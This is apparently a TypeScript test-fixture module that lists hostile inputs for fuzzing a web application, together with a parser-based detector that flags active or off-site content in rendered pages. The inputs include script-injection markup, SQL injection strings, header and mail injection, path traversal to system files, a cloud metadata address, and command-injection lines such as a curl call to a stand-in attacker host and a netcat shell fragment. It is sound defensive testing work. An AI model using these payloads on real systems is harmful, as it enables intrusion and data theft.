/**
 * Hostile inputs as data: families of texts, bodies, headers, forms and mails. `MARK` stands in every script among them, so that what
 * would run is told from what is only shown.
 */
import { Parser } from 'htmlparser2';

export const MARK = 'alert(7331)';
const ELSEWHERE = 'evil.example';

// ---------------------------------------------------------------- texts

/** Markup that runs something, or fetches something, in one browser or another. */
export const MARKUP = [
  `<script>${MARK}</script>`,
  `<script src=//${ELSEWHERE}/x.js></script>`,
  `<script type=module>import('//${ELSEWHERE}/x.js')</script>`,
  `<img src=x onerror=${MARK}>`,
  `<img src="https://${ELSEWHERE}/pixel.gif" srcset="https://${ELSEWHERE}/2.gif 2x">`,
  `<svg onload=${MARK}>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><a xlink:href="javascript:${MARK}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${MARK}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${MARK}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${MARK}>`,
  `<body onload=${MARK}>`,
  `<iframe src="javascript:${MARK}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${MARK}&lt;/script&gt;"></iframe>`,
  `<a href="javascript:${MARK}">x</a>`,
  `<a href="jav&#x09;ascript:${MARK}">x</a>`,
  `<a href="&#106;&#97;vascript&colon;${MARK}">x</a>`,
  `<form action="javascript:${MARK}"><button>x</button></form>`,
  `<form action="https://${ELSEWHERE}/take"><input name=password></form>`,
  `<button formaction="javascript:${MARK}">x</button>`,
  `<input autofocus onfocus=${MARK}>`,
  `<details open ontoggle=${MARK}>x</details>`,
  `<video><source onerror=${MARK}></video>`,
  `<audio src=x onerror=${MARK}>`,
  `<object data="javascript:${MARK}"></object>`,
  `<embed src="javascript:${MARK}">`,
  `<base href="https://${ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=https://${ELSEWHERE}/">`,
  `<link rel=stylesheet href="https://${ELSEWHERE}/x.css">`,
  `<style>@import "https://${ELSEWHERE}/x.css";</style>`,
  `<div style="background:url(https://${ELSEWHERE}/x.gif);position:fixed;inset:0">x</div>`,
  `<marquee onstart=${MARK}>x</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<template><script>${MARK}</script></template>`,
  `</title><script>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `</style><script>${MARK}</script>`,
  `<!--><script>${MARK}</script>-->`,
  `<![CDATA[><script>${MARK}</script>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<x onclick=${MARK} tabindex=1 id=x>x`,
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<ScRiPt >${MARK}</sCrIpT >`,
  `<img/src=x/onerror=${MARK}>`,
  `<p onmouseover\u000b=${MARK}>x`,
  `<div><b><constructor><__proto__ onclick=${MARK}><li><hasOwnProperty><td>`,
];
const CONTEXTS: ((vector: string) => string)[] = [
  (one) => one,
  (one) => `">${one}`,
  (one) => `'>${one}`,
  (one) => `--></div></script>${one}`,
  (one) => `> - **${one}**`,
  (one) => `\`\`\`html\n${one}\n\`\`\`\n${one}`,
  (one) => one.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (one) => one.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (one) => encodeURIComponent(one),
  (one) => one.replace('<', '<\u0000'),
];
const ADDRESSES = [
  `javascript:${MARK}`,
  `JaVaScRiPt:${MARK}`,
  `java\nscript:${MARK}`,
  `\u0001javascript:${MARK}`,
  `javascript&colon;${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNzMzMSk+`,
  `vbscript:${MARK}`,
  `blob:https://${ELSEWHERE}/x`,
  'file:///etc/passwd',
  `https://good.example@${ELSEWHERE}/`,
  `//${ELSEWHERE}/`,
  `https:\\\\${ELSEWHERE}`,
  'http://[::1]:80/',
  'http://169.254.169.254/latest/meta-data/',
];
const AS_LINKS: ((address: string) => string)[] = [
  (one) => one,
  (one) => `[x](${one})`,
  (one) => `[x](<${one}> "${'"'} onclick=${MARK}")`,
  (one) => `![x](${one})`,
  (one) => `<${one}>`,
  (one) => `[x]\n\n[x]: ${one}`,
  (one) => `<a href='${one}'>x</a>`,
];
const SQL = [
  `' OR '1'='1`,
  `' OR 1=1 --`,
  `'; DROP TABLE room; --`,
  `"; DELETE FROM event; --`,
  `') UNION SELECT hash, email FROM sign_in --`,
  `1; ATTACH DATABASE '/tmp/x' AS x`,
  `%' AND (SELECT count(*) FROM person) > 0 AND '%'='`,
  `\\'; UPDATE membership SET role = 'owner'; --`,
  `' || (SELECT group_concat(email) FROM person) || '`,
  `x' AND randomblob(1000000000) AND '1`,
  `%`,
  `_%_%_%_%_%_%_%_%_%`,
  `*" OR "x`,
  `NEAR("a" "b", 10) AND title:*`,
  `' OR json_extract('{}', '$.x') IS NULL --`,
  `0x27204f5220313d31`,
];
const BREAKS = ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085', '\u560d\u560a', '\u0000\r\n'];
const LINES = [
  `Bcc: x@${ELSEWHERE}`,
  'Set-Cookie: __Host-seller=x',
  'Content-Type: text/html',
  `Reply-To: x@${ELSEWHERE}`,
  `\u0020\r\nTo: x@${ELSEWHERE}`,
  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
  `.\r\nMAIL FROM:<x@${ELSEWHERE}>`,
  'END:VEVENT\r\nBEGIN:VEVENT\r\nUID:x',
];
const HEADERS = [
  ...BREAKS.flatMap((end) => LINES.map((line) => `Hello${end}${line}`)),
  `=?utf-8?B?${btoa(`x\r\nBcc: x@${ELSEWHERE}`)}?=`,
  '=?utf-8?Q?x=0D=0ABcc:_x@evil.example?=',
  `"x" <x@${ELSEWHERE}>, "y`,
  `x@${ELSEWHERE}\r\n.example`,
];
const UP = ['../', '..\\', '%2e%2e%2f', '%252e%252e%252f', '..%c0%af', '....//', '..;/', '\uff0e\uff0e\uff0f', '/', 'C:\\'];
const TRAVERSAL = UP.flatMap((up) => ['etc/passwd', 'windows/win.ini', 'rooms/x/secret', '\u0000.png'].map((path) => up.repeat(4) + path));
const UNICODE = [
  '\u202etxt.exe',
  '\u202dabc\u202c',
  '\u2066\u2067\u2068x\u2069',
  'pay\u200bpal',
  'a\u200d\u200db',
  '\ufeffx',
  '\u00ad\u00ad\u00ad',
  '\u200b',
  '\u2800',
  '\u3164',
  'раураl',
  'ℂ𝔥𝔢𝔫 ᴄʜᴇɴ',
  '\ud800',
  'x\udc00y',
  '\ud83d',
  '\udfff\ud800',
  '\u0000',
  'a\u0000b',
  '\u0007\u0008\u001b[2J',
  '\u009b31m',
  '\uffff\ufffe',
  '\ufdd0',
  `x${'\u0300\u0488\u20dd'.repeat(60)}`,
  '\u0130\u0131\u017f\u212a',
  'ß'.repeat(20),
  'ﷺ'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(20),
  '🇨🇳🇩🇪🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '\u{e0041}\u{e0042}',
  '\u{10ffff}',
  'Ａｄｍｉｎ',
  '\u1680\u2003\u205f\u3000',
  'e\u0301 vs \u00e9',
  '\u115f\u1160',
  'تجربة\u200fabc',
  'İstanbul'.repeat(10),
];
const OTHERS = [
  '=HYPERLINK("https://evil.example","x")',
  '+cmd|"/C calc"!A0',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\uff1d1+1',
  `; cat /etc/passwd`,
  `$(curl ${ELSEWHERE})`,
  '`id`',
  '| nc -e /bin/sh',
  '${jndi:ldap://evil.example/x}',
  '{{constructor.constructor("alert(7331)")()}}',
  '<%= 7 * 7 %>',
  '#{7*7}',
  '${7*7}',
  '%s%s%n%x',
  '%p%p%99999d',
  '{"__proto__":{"polluted":1}}',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'x.__proto__',
  'x.constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '1e999',
  '-0',
  '[object Object]',
];
/** Patterns that make a parser slow, and lengths just below and beyond what is taken. */
const LONG = [
  'A'.repeat(201),
  'é'.repeat(20_001),
  '>'.repeat(2_900),
  '['.repeat(2_900),
  '*a_'.repeat(1_400),
  '`'.repeat(2_900),
  '<'.repeat(2_900),
  '\n'.repeat(19_999),
  `${'- '.repeat(1_400)}x`,
  '|a'.repeat(1_400),
  '&amp;'.repeat(600),
  '\\'.repeat(2_900),
  `${'a@'.repeat(1_000)}x`,
  ' '.repeat(19_999),
  '㊙'.repeat(19_999),
];

/** Texts for any field that takes one, by family. */
export const FAMILIES: Record<string, readonly string[]> = {
  markup: [
    ...MARKUP,
    ...MARKUP.flatMap((one, nth) => CONTEXTS.flatMap((within, at) => (at > 0 && (at + nth) % 3 === 0 ? within(one) : []))),
  ],
  addresses: ADDRESSES.flatMap((one) => AS_LINKS.map((as) => as(one))),
  sql: SQL,
  headers: HEADERS,
  traversal: TRAVERSAL,
  unicode: UNICODE,
  others: OTHERS,
  long: LONG,
};
export const TEXTS: readonly string[] = Object.values(FAMILIES).flat();

/** What a text becomes in JSON where it is no good Unicode. */
export const wellFormed = (text: string): string =>
  text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');

// ---------------------------------------------------------------- what stands in an address, a body, a header

/** Segments of a path, percent-encoded as a client would have to send them. */
export const SEGMENTS = [
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%5c..%5cwin.ini',
  '%00',
  'x%0d%0aSet-Cookie:x',
  '%c0%ae%c0%ae',
  '%ff%fe',
  '%',
  '%zz',
  encodeURIComponent(`<script>${MARK}</script>`),
  encodeURIComponent("' OR '1'='1"),
  '__proto__',
  'constructor',
  'a'.repeat(6_000),
  'A'.repeat(26),
  '%F0%9F%91%A9',
  'healthz',
  `${'a'.repeat(25)}1`,
];

/** Values of a query that is asked for a word, a number or an id. */
export const VALUES = [
  '',
  '-1',
  '1e999',
  'NaN',
  '9007199254740993',
  '%00',
  '%ff',
  '%',
  encodeURIComponent(`"><script>${MARK}</script>`),
  encodeURIComponent("') UNION SELECT hash FROM session --"),
  encodeURIComponent('%_%_%_%_%_%'),
  encodeURIComponent('\u202e\u200b'),
  'x'.repeat(5_000),
  encodeURIComponent('*" OR NEAR('),
];

const nested = (open: string, close: string, times: number): string => open.repeat(times) + close.repeat(times);
const bytes = (...codes: number[]): Uint8Array<ArrayBuffer> => Uint8Array.from(codes);

/** Bodies where JSON is awaited. */
export const BODIES: readonly (string | Uint8Array<ArrayBuffer>)[] = [
  '',
  '{',
  'null',
  'true',
  '0',
  '1e999',
  'NaN',
  '"x"',
  '[]',
  '{}',
  '[null]',
  '{"":""}',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"id":"aaaaaaaaaaaaaaaaaaaaaaaaaa","command":{"type":"__proto__"}}',
  '{"id":"aaaaaaaaaaaaaaaaaaaaaaaaaa","command":{"type":["room.rename"],"name":"x"}}',
  '{"id":"aaaaaaaaaaaaaaaaaaaaaaaaaa","command":{"type":"room.rename","name":{"toString":"x"}}}',
  '{"id":"aaaaaaaaaaaaaaaaaaaaaaaaaa","command":{"type":"deal.change","amount":1e999}}',
  '{"id":"aaaaaaaaaaaaaaaaaaaaaaaaaa","command":{"type":"plan.shift","shift":"x","days":-1e309,"tasks":[{}]}}',
  '{"id":"aaaaaaaaaaaaaaaaaaaaaaaaaa","id":"b","command":null}',
  '{"name":"\\ud800","role":"\\u0000","email":["x"],"framework":{},"minimum":"1e3","into":{},"domain":[],"how":{}}',
  '{"name":true,"email":1,"account":{},"template":[],"locale":"__proto__","choice":{"a":1}}',
  `{"email":"x@${'a.'.repeat(4_000)}example","account":"${'x'.repeat(50_000)}","name":"${'y'.repeat(50_000)}"}`,
  nested('[', ']', 5_000),
  nested('{"a":', '}', 5_000).replace('{"a":}', '{"a":1}'),
  `[${'1,'.repeat(60_000)}1]`,
  `"${'x'.repeat(300_000)}"`,
  bytes(0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00),
  bytes(0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d),
  bytes(0x22, 0xed, 0xa0, 0x80, 0x22),
  bytes(0x1f, 0x8b, 0x08, 0x00, 0x00),
];

/** Headers of a request: cookies that are no cookies, types that are none, addresses that nobody has. */
export const REQUEST_HEADERS: readonly Record<string, string>[] = [
  { cookie: '__Host-seller=' },
  { cookie: '__Host-seller=%' },
  { cookie: '__Host-seller=%00%ff; __Host-guest=%zz' },
  { cookie: `__Host-seller=${"' OR '1'='1"}` },
  { cookie: `__Host-guest=${'a'.repeat(26)}; __Host-guest=${'b'.repeat(26)}` },
  { cookie: '__Host-guest=__proto__; __proto__=x; constructor=y' },
  { cookie: ';;;===;;;"' },
  { cookie: 'x='.repeat(2_000) },
  { cookie: 'locale=<script>; theme="><script>; plan=%7B%22__proto__%22%3A1%7D; first-steps=\t' },
  { cookie: 'plan=%ff%fe%00; theme=javascript:' },
  { 'accept-language': 'zh\t;q=NaN,*;q=1e999' },
  { 'accept-language': '<script>' },
  { 'user-agent': `<script>${MARK}</script>` },
  { 'user-agent': 'x'.repeat(8_000) },
  { 'cf-connecting-ip': "' OR 1=1" },
  { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '::1', forwarded: 'for=127.0.0.1' },
  { 'x-room-actor': '{"kind":"seller","person":"x","workspace":"x","session":"x"}' },
  { 'x-forwarded-host': ELSEWHERE, 'x-original-url': '/api/session', 'x-rewrite-url': '/api/session' },
  { 'x-http-method-override': 'DELETE' },
  { range: 'bytes=0-0,1-1,99999999999999999999-' },
  { range: 'bytes=-1e999' },
  { 'if-none-match': '"'.repeat(500) },
  { 'content-type': 'multipart/form-data' },
  { 'content-type': 'text/\u00ff' },
  { 'accept-encoding': 'gzip;q=NaN' },
  { 'x-file-name': '%ff%00../../x' },
  { 'content-length': '0', 'transfer-encoding': 'chunked' },
  { accept: 'application/json;q=1e999,<script>' },
  { 'x-sveltekit-action': 'true', accept: 'application/json' },
];

const multipart = (...parts: string[]): string => parts.join('\r\n');
/** Bodies where a form is awaited. */
export const FORMS: readonly { type: string; body: string | Uint8Array<ArrayBuffer> }[] = [
  { type: 'application/x-www-form-urlencoded', body: '' },
  { type: 'application/x-www-form-urlencoded', body: '%' },
  { type: 'application/x-www-form-urlencoded', body: '%ff=%fe&%00=%00&=&&&' },
  { type: 'application/x-www-form-urlencoded', body: '__proto__=x&constructor=y&__proto__.polluted=1&a[__proto__]=1' },
  { type: 'application/x-www-form-urlencoded', body: 'command=%7B' },
  { type: 'application/x-www-form-urlencoded', body: 'command=null&id=x' },
  {
    type: 'application/x-www-form-urlencoded',
    body: `command=${encodeURIComponent('{"type":"room.rename"}')}&name=&type=task.add&__proto__.name=x`,
  },
  {
    type: 'application/x-www-form-urlencoded',
    body: `command=${encodeURIComponent('{"type":"task.add"}')}&line=${encodeURIComponent(`@@@ ${'\u202e'} ${'x'.repeat(5_000)} 99:99`)}`,
  },
  {
    type: 'application/x-www-form-urlencoded',
    body: `command=${encodeURIComponent('{"type":"meeting.propose","times":{}}')}&words=${encodeURIComponent('Fri 99:99, -1, 1e999')}&length=NaN`,
  },
  {
    type: 'application/x-www-form-urlencoded',
    body: `command=${encodeURIComponent('{"type":"task.change","due":"x","owners":null}')}&due.date.__proto__.x=1&owners[]=x&due.=y`,
  },
  {
    type: 'application/x-www-form-urlencoded',
    body: `email=${encodeURIComponent(`x@corp.example\r\nBcc: y@${ELSEWHERE}`)}&name=x&workspace=y&account=z&template=__proto__`,
  },
  {
    type: 'application/x-www-form-urlencoded',
    body: `email=x&name=${'n'.repeat(100_000)}&workspace=&zone=../../etc/passwd&locale=__proto__&mail=constructor&code=${'9'.repeat(10_000)}`,
  },
  { type: 'application/x-www-form-urlencoded', body: `back=${encodeURIComponent(`//${ELSEWHERE}`)}&locale=en` },
  { type: 'application/x-www-form-urlencoded', body: `back=${encodeURIComponent(`/\\${ELSEWHERE}`)}&theme=dark` },
  { type: 'application/x-www-form-urlencoded', body: `back=${encodeURIComponent('/\t//evil.example')}&locale=xx` },
  { type: 'application/x-www-form-urlencoded', body: `back=${encodeURIComponent('javascript:alert(7331)')}` },
  {
    type: 'application/x-www-form-urlencoded',
    body: `answer=${encodeURIComponent('{"id":{},"response":{"clientDataJSON":"%"}}')}&passkey=x&session=x&person=__proto__&role=owner&workspace=x`,
  },
  { type: 'application/x-www-form-urlencoded', body: 'a=1&'.repeat(20_000) },
  { type: 'application/x-www-form-urlencoded', body: bytes(0xff, 0xfe, 0x3d, 0xc0, 0xaf) },
  { type: 'multipart/form-data', body: 'x' },
  { type: 'multipart/form-data; boundary=', body: '----' },
  { type: 'multipart/form-data; boundary=x', body: '--y\r\n\r\n--y--' },
  { type: 'multipart/form-data; boundary=x', body: multipart('--x', 'Content-Disposition: form-data; name="command"', '', '{"type":') },
  {
    type: 'multipart/form-data; boundary=x',
    body: multipart(
      '--x',
      'Content-Disposition: form-data; name="file"; filename="../../../etc/passwd\r\nX: y"',
      'Content-Type: text/html',
      '',
      '<script>',
      '--x--',
      '',
    ),
  },
  {
    type: 'multipart/form-data; boundary=x',
    body: multipart(
      '--x',
      'Content-Disposition: form-data; name="__proto__"',
      '',
      'x',
      '--x',
      'Content-Disposition: attachment',
      '',
      'y',
      '--x--',
      '',
    ),
  },
  { type: `multipart/form-data; boundary=${'b'.repeat(300)}`, body: `--${'b'.repeat(300)}--` },
  { type: 'text/plain', body: 'command={"type":"room.rename","name":"x"}' },
  { type: 'application/json', body: '{"command":"x"}' },
  { type: 'application/x-sveltekit-formdata', body: bytes(0, 255, 255, 255, 255, 0, 0, 1) },
  { type: 'x', body: 'x' },
];

/** Frames of a socket. */
export const FRAMES: readonly string[] = [
  '',
  '{',
  'null',
  '[]',
  '0',
  '"ping"',
  '{"type":"__proto__"}',
  '{"type":"constructor"}',
  '{"type":["command"]}',
  '{"type":"command"}',
  '{"type":"command","id":{}}',
  '{"type":"command","id":"aaaaaaaaaaaaaaaaaaaaaaaaaa","command":{"type":"toString"}}',
  '{"type":"command","id":"aaaaaaaaaaaaaaaaaaaaaaaaaa","command":{"__proto__":{"type":"room.rename"},"name":"x"}}',
  '{"type":"command","id":"../../../../../../x","command":{"type":"room.rename","name":"x"}}',
  '{"type":"seen","thread":"__proto__","seq":1}',
  '{"type":"seen","thread":"room","seq":-1}',
  '{"type":"seen","thread":"room","seq":1e308}',
  '{"type":"seen","thread":{"length":1},"seq":1}',
  `{"type":"seen","thread":"${'x'.repeat(200)}","seq":1}`,
  '{"type":"here","at":"constructor","typing":"yes"}',
  '{"type":"here","at":["room:internal"],"typing":true}',
  '{"type":"text.open","text":"task:__proto__","vector":null}',
  '{"type":"text.open","text":{"x":1},"vector":"%"}',
  '{"type":"text.open","text":"task:aaaaaaaaaaaaaaaaaaaaaaaaaa","vector":"////////////////"}',
  '{"type":"text.edit","text":"task:aaaaaaaaaaaaaaaaaaaaaaaaaa","update":"\\u0000"}',
  '{"type":"text.edit","text":"task:aaaaaaaaaaaaaaaaaaaaaaaaaa","update":{}}',
  '{"type":"text.close","text":"task:"}',
  `{"type":"here","at":"${'\\ud800'.repeat(10)}","typing":true}`,
  nested('[', ']', 4_000),
  nested('{"type":', '}', 4_000),
  `"${'x'.repeat(70_000)}"`,
  '\u0000\u0001\uffff',
];

// ---------------------------------------------------------------- what a browser would do with a page

const LOADS = ['src', 'href', 'xlink:href', 'data', 'poster', 'action', 'formaction', 'background', 'ping', 'cite'];
const NEVER = new Set(['iframe', 'object', 'embed', 'base', 'frame', 'frameset', 'applet', 'portal', 'foreignobject', 'animate', 'set']);
/** Elements that fetch what they name without being pressed. */
const FETCHES = new Set(['img', 'script', 'link', 'video', 'audio', 'source', 'track', 'input', 'image', 'use']);

/**
 * What in a page would run, fetch or send something that is not the product's own, said in words; nothing for a page as it should be.
 * `nonce` is that of the page's policy. A mail has none, and may link and load from `own` alone.
 */
export function activeIn(html: string, { nonce, own }: { nonce: string | null; own: readonly string[] }): string[] {
  const found: string[] = [];
  let inStyle = false;
  const parser = new Parser({
    onopentag(name, attributes) {
      const said = `<${name} ${Object.entries(attributes)
        .map(([key, value]) => `${key}="${value.slice(0, 80)}"`)
        .join(' ')}>`;
      if (NEVER.has(name)) found.push(said);
      if (name === 'meta' && /refresh/i.test(attributes['http-equiv'] ?? '')) found.push(said);
      inStyle = name === 'style';
      for (const [key, value] of Object.entries(attributes)) {
        if (/^on/i.test(key) || key === 'srcdoc') found.push(said);
        if (key === 'style' && /expression|behavior|evil\.example|javascript:/i.test(value)) found.push(said);
        if (!LOADS.includes(key) && key !== 'srcset') continue;
        // Browsers drop tabs and line breaks within a scheme, and controls before it.
        // eslint-disable-next-line no-control-regex
        const address = value.replace(/^[\u0000-\u0020]+|[\t\n\r]/g, '').toLowerCase();
        if (/^(javascript|vbscript|file|blob):/.test(address)) found.push(said);
        if (address.startsWith('data:') && !/^data:image\/(png|jpeg|gif|webp|svg\+xml)/.test(address)) found.push(said);
        const isElsewhere = /^(https?:)?[\\/]{2}/.test(address) && !own.some((one) => address.startsWith(one));
        if (isElsewhere && (FETCHES.has(name) || key === 'action' || key === 'formaction')) found.push(said);
      }
      if (name !== 'script') return;
      const isData = attributes['type'] === 'application/json';
      const isOurs = /^\/(?!\/)/.test(attributes['src'] ?? '') || (nonce !== null && attributes['nonce'] === nonce);
      if (!isData && !isOurs) found.push(said);
    },
    onclosetag(name) {
      if (name === 'style') inStyle = false;
    },
    ontext(text) {
      if (inStyle && /evil\.example|@import/.test(text)) found.push(`<style>${text.slice(0, 80)}`);
    },
  });
  parser.end(html);
  return found;
}
